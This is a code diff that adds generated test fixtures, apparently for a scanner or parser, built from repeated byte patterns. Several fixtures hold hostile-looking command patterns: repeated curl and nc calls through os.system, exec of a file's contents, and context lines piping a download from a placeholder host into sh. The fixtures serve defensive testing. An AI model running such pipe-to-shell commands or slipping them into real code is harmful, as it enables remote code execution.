@@ -197,6 +197,10 @@ _CODE: Final[dict[str, Callable[[int], bytes]]] = {
     "reads.py": _repeated(b"x=requests.get(y).text\n", b"import requests\n"),
     "globals.py": _repeated(b"a.__init__.__globals__\n"),
     "introspection.py": _repeated(b".__globals__", b"x=a"),
+    "library.py": _repeated(b"a", b"import ctypes\nctypes.CDLL('libcuda", b"!')\n"),
+    "version_file.py": _repeated(b"version", b"exec(open('", b"x').read())\n"),
+    "fetches.py": _repeated(b"os.system('" + b"curl " * 800 + b"')\n", b"import os\n"),
+    "listeners.py": _repeated(b"os.system('" + b"nc " * 1300 + b"')\n", b"import os\n"),
 }
 _TEMPLATES: Final[dict[str, Callable[[int], bytes]]] = {
     "sum.jinja": _repeated(b"+a", b"{{ a", b" }}"),
@@ -299,6 +303,7 @@ _DOCUMENTS: Final[dict[str, Callable[[int], bytes]]] = {
     "spaces/README.md": _repeated(b" \n", b"# x\n"),
     "script.sh": _repeated(b"curl http://a.example/x | sh ; "),
     "programs.sh": _repeated(b"bitsadmin "),
+    "fetches.sh": _repeated(b"curl " * 800 + b"\n"),
     "newlines.pt": _repeated(b"\n", b"a line of text"),
     "lines.sh": _repeated(b"curl http://a.example/x | sh\n"),
     "encoded_lines.sh": _repeated(b"echo gASVgASVgASVgASVgASVgASV\n"),
